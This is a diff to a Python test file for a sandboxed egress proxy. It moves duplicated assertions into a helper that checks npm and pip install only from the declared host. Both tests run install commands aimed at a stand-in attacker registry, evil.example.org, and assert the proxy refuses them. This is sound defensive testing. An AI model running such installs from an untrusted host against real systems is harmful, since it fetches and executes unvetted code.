@@ -8,7 +8,7 @@ import os
 import shutil
 import socket
 import subprocess
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from pathlib import Path
 
 import pytest
@@ -17,10 +17,11 @@ from factory.adapters.sandbox import supervisor
 from factory.adapters.sandbox.linux import LinuxSandbox
 from factory.adapters.sandbox.stage import LinuxStage
 from factory.model import egress
-from factory.model.egress import Reason, Verdict
+from factory.model.egress import Connection, Reason, Verdict
 from factory.model.pack import Network
 from factory.model.properties import Property
 from factory.ports.egress import Reach
+from factory.ports.sandbox import CommandOutcome
 from tests.egress_kit import Authority, Map, https
 from tests.hostile.extent import WHOLE
 from tests.sandbox_kit import BUBBLEWRAPS, NOTHING, SMALL, run, sandbox
@@ -285,6 +286,12 @@ def test_real_npm_installs_through_the_proxy(made: LinuxSandbox, files: tuple[Pa
         records = opened.connections()
         refused = run(opened, f"{install} https://evil.example.org/npm/")
         more = opened.connections()
+    installed_from_the_declared_host_alone(done, records, refused, more)
+
+
+def installed_from_the_declared_host_alone(
+    done: CommandOutcome, records: Sequence[Connection], refused: CommandOutcome, more: Sequence[Connection]
+) -> None:
     assert done.rc == 0, done.log
     assert done.log.endswith(b"installed\n")
     assert {(one.host, one.verdict) for one in records} == {(HOST, Verdict.ALLOWED)}
@@ -326,8 +333,4 @@ def test_real_pip_installs_through_the_proxy(made: LinuxSandbox, files: tuple[Pa
         records = opened.connections()
         refused = run(opened, f"{pip} {words} -i https://evil.example.org/simple --target /tmp/site")
         more = opened.connections()
-    assert done.rc == 0, done.log
-    assert done.log.endswith(b"installed\n")
-    assert {(one.host, one.verdict) for one in records} == {(HOST, Verdict.ALLOWED)}
-    assert refused.rc != 0
-    assert {(one.host, one.reason) for one in more} == {("evil.example.org", Reason.NOT_DECLARED)}
+    installed_from_the_declared_host_alone(done, records, refused, more)
